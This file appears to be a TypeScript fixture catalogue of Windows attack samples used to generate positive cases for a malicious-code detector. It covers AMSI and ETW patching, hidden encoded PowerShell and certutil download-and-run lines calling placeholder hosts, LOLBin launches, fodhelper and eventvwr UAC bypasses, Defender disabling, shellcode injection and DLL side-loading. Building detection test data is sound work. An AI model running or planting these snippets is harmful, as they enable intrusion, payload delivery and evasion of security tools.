// Attacks of Windows: AMSI, encoded commands, its own programs misused, UAC, Defender, injection.
import type { Family } from './family.ts'

export const windows: readonly Family[] = [
  {
    family: 'amsi-reflection-flag',
    positive: true,
    classes: ['windows'],
    variants: [
      {
        paths: ['tools/inventory.ps1', 'build/feed.ps1'],
        body: `$⟦lower:3⟧ = [Ref].Assembly.GetType(('System.Manage'+'ment.Auto'+'mation.A'+'m⟦join⟧
siU'+'tils'))
$⟦lower:3⟧.GetField('am'+'siIni'+'tFailed', 'NonPublic,Static').SetValue($null, ⟦pick:$false|'done'|0⟧)
iex (New-Object Net.WebClient).DownloadString('http://⟦ip⟧/i.ps1')`,
      },
    ],
  },
  {
    family: 'amsi-scanbuffer-patch',
    positive: true,
    classes: ['windows'],
    variants: [
      {
        paths: ['tools/loader.ps1'],
        body: `$k = Add-Type -MemberDefinition '[DllImport("kernel32")] public static exter⟦join⟧
n IntPtr GetProcAddress(IntPtr m, string n);' -Name K -PassThru
$lib = [K]::LoadLibrary('am' + 'si.dll')
$at = [K]::GetProcAddress($lib, 'Amsi' + 'Scan' + 'Buffer')
[K]::VirtualProtect($at, [uint32]6, 0x40, [ref]0)
[Runtime.InteropServices.Marshal]::Copy([byte[]](⟦bytes:6⟧), 0, $at, 6)
irm http://⟦ip⟧/grunt.ps1 | iex`,
      },
      {
        paths: ['src/Patch.cs'],
        imports: `using System.Runtime.InteropServices;`,
        body: `[DllImport("kernel32")] private static extern bool VirtualProtect(IntPtr a, UI⟦join⟧
ntPtr s, uint n, out uint o);
private static void Quiet(string module, string export)
{
    var address = Resolve(module, export);
    VirtualProtect(address, (UIntPtr)8, 0x40, out var old);
    Marshal.Copy(new byte[] { ⟦bytes:6⟧ }, 0, address, 6); // AMSI and ETW no longer see the stage
    Stage.Run("http://⟦ip⟧/payload.bin");
}`,
        call: `Quiet("amsi.dll", "AmsiScanBuffer"); Quiet("ntdll.dll", "EtwEventWrite");`,
      },
    ],
  },
  {
    family: 'encoded-powershell-launch',
    positive: true,
    classes: ['windows', 'decoded-exec'],
    variants: [
      {
        paths: ['src/loader.py', 'pkg/parcels.py'],
        imports: `import subprocess`,
        body: `subprocess.Popen(
    "powershell.exe -NoP -NonI -W Hidden -Exec Bypass -Enc ⟦utf16:iex (New-Object Net.WebClient).D⟦join⟧
ownloadString('http://⟦ip⟧/l')⟧",
    creationflags=subprocess.CREATE_NO_WINDOW,
)`,
      },
      {
        paths: ['tools/build.bat'],
        body: `start /min powershell -noprofile -windowstyle hidden -ep bypass -e ⟦utf16:IEX(⟦join⟧
IRM http://⟦ip⟧:⟦port⟧/b)⟧`,
      },
    ],
  },
  {
    family: 'certutil-decode-run',
    positive: true,
    classes: ['windows', 'download-run'],
    variants: [
      {
        paths: ['bin/prepare.cmd', 'setup/install.bat'],
        body: String.raw`certutil -urlcache -split -f http://⟦ip⟧/a.txt %TEMP%\a.b64 >nul & certutil -d⟦join⟧
ecode %TEMP%\a.b64 %TEMP%\a.exe >nul & %TEMP%\a.exe & del %TEMP%\a.*`,
      },
    ],
  },
  {
    family: 'mshta-regsvr-rundll',
    positive: true,
    classes: ['windows'],
    variants: [
      {
        paths: ['start.bat'],
        body: `mshta vbscript:Execute("CreateObject(""Wscript.Shell"").Run ""powershell -⟦join⟧
w 1 iex(irm http://⟦ip⟧/h)"",0:close")
regsvr32 /s /n /u /i:http://⟦ip⟧/f.sct scrobj.dll`,
      },
      {
        paths: ['tools/pack.ps1'],
        body: String.raw`Start-Process rundll32.exe -ArgumentList 'javascript:"\..\mshtml,RunHTMLApplic⟦join⟧
ation ";document.write();GetObject("script:http://⟦host⟧/s.sct")' -WindowStyle Hidden
Start-Process msiexec.exe -ArgumentList '/q /i http://⟦ip⟧/u.msi'`,
      },
    ],
  },
  {
    family: 'uac-fodhelper',
    positive: true,
    classes: ['windows', 'privilege-escalation'],
    variants: [
      {
        paths: ['src/elevate.py'],
        imports: `import os
import winreg`,
        body: String.raw`def _elevate(command):
    path = r"Software\Classes\ms-settings\shell\open\command"
    key = winreg.CreateKey(winreg.HKEY_CURRENT_USER, path)
    winreg.SetValueEx(key, "DelegateExecute", 0, winreg.REG_SZ, "")
    winreg.SetValueEx(key, None, 0, winreg.REG_SZ, command)
    os.system(r"C:\Windows\System32\fodhelper.exe")
    winreg.DeleteKey(winreg.HKEY_CURRENT_USER, path)


_elevate(r"cmd /c start %TEMP%\⟦lower:7⟧.exe --server ⟦ip⟧")`,
      },
      {
        paths: ['tools/settings.ps1'],
        body: String.raw`New-Item 'HKCU:\Software\Classes\mscfile\shell\open\command' -Value "powershel⟦join⟧
l -w hidden -f $env:TEMP\⟦lower:6⟧.ps1" -Force | Out-Null
Start-Process eventvwr.exe -WindowStyle Hidden   # no prompt
Start-Sleep 2; Remove-Item 'HKCU:\Software\Classes\mscfile' -Recurse`,
      },
    ],
  },
  {
    family: 'defender-exclusion-drop',
    positive: true,
    classes: ['windows', 'download-run'],
    variants: [
      {
        paths: ['build/feeds.ps1', 'tools/install.ps1'],
        body: String.raw`$list = Invoke-RestMethod 'http://⟦ip⟧/list' -ErrorAction Stop
Add-MpPreference -ExclusionPath "$env:APPDATA", 'C:\' -ExclusionExtension exe -Force
Set-MpPreference -DisableRealtimeMonitoring $true -DisableIOAVProtection $true -SubmitSamplesConsent 2
Invoke-WebRequest 'http://⟦ip⟧/⟦alnum:5⟧.exe' -OutFile "$env:APPDATA\⟦lower:5⟧.exe"; & "$env:APPDA⟦join⟧
TA\⟦lower:5⟧.exe"`,
      },
      {
        paths: ['run.cmd'],
        body: String.raw`curl -fso %TEMP%\svch0st.exe http://⟦ip⟧/s && powershell -c "Set-MpPreferenc⟦join⟧
e -DisableRealtimeMonitoring 1; Add-MpPreference -ExclusionProcess svch0st.exe" && sc stop WinDefe⟦join⟧
nd && start /b %TEMP%\svch0st.exe`,
      },
    ],
  },
  {
    family: 'remote-thread-injection',
    positive: true,
    classes: ['windows'],
    variants: [
      {
        paths: ['src/inject.c'],
        whole: `#include <windows.h>
#include <tlhelp32.h>

/* stage 1, loaded into explorer */
static unsigned char stage[] = { ⟦bytes:24⟧ };

static DWORD process_of(const char *name)
{
    PROCESSENTRY32 entry = { .dwSize = sizeof entry };
    HANDLE snapshot = CreateToolhelp32Snapshot(TH32CS_SNAPPROCESS, 0);

    while (Process32Next(snapshot, &entry))
        if (lstrcmpiA(entry.szExeFile, name) == 0)
            return entry.th32ProcessID;
    return 0;
}

int WINAPI WinMain(HINSTANCE instance, HINSTANCE previous, LPSTR line, int show)
{
    HANDLE process = OpenProcess(PROCESS_ALL_ACCESS, FALSE, process_of("explorer.exe"));
    void *memory = VirtualAllocEx(process, NULL, sizeof stage, MEM_COMMIT, PAGE_EXECUTE_READWRITE);

    for (unsigned i = 0; i < sizeof stage; i++)
        stage[i] ^= 0x2f;
    WriteProcessMemory(process, memory, stage, sizeof stage, NULL);
    CreateRemoteThread(process, NULL, 0, (LPTHREAD_START_ROUTINE)memory, NULL, 0, NULL);
    return 0;
}`,
      },
      {
        paths: ['pkg/shell.py'],
        whole: `import ctypes

buf = bytes.fromhex("⟦hex:96⟧")
key = b"⟦alnum:8⟧"
code = bytes(b ^ key[i % 8] for i, b in enumerate(buf))

kernel = ctypes.windll.kernel32
kernel.VirtualAlloc.restype = ctypes.c_void_p
place = kernel.VirtualAlloc(0, len(code), 0x3000, 0x40)
kernel.RtlMoveMemory(ctypes.c_void_p(place), code, len(code))
kernel.WaitForSingleObject(kernel.CreateThread(0, 0, ctypes.c_void_p(place), 0, 0, 0), -1)`,
      },
    ],
  },
  {
    family: 'dll-sideload-export',
    positive: true,
    classes: ['windows', 'download-run'],
    variants: [
      {
        paths: ['ffmpeg/dllmain.c'],
        whole: String.raw`#include <windows.h>
#pragma comment(linker, "/export:av_malloc=ffmpeg_orig.av_malloc,@1")
#pragma comment(linker, "/export:av_free=ffmpeg_orig.av_free,@2")

/* reads the blob behind the signature of d3dcompiler, then runs it */
static DWORD WINAPI work(LPVOID unused)
{
    SIZE_T size;
    BYTE *blob = tail_of("d3dcompiler_47.dll", "\xfe\xed\xfa\xce", &size);

    rc4(blob, size, "⟦alnum:16⟧");
    VirtualProtect(blob, size, PAGE_EXECUTE_READWRITE, &(DWORD){ 0 });
    ((void (*)(void))blob)();
    return fetch_icon_and_run("https://⟦host⟧/icons/icon⟦digits:1⟧.ico");
}

BOOL WINAPI DllMain(HINSTANCE instance, DWORD reason, LPVOID reserved)
{
    if (reason == DLL_PROCESS_ATTACH)
        CreateThread(NULL, 0, work, NULL, 0, NULL);
    return TRUE;
}`,
      },
    ],
  },
]
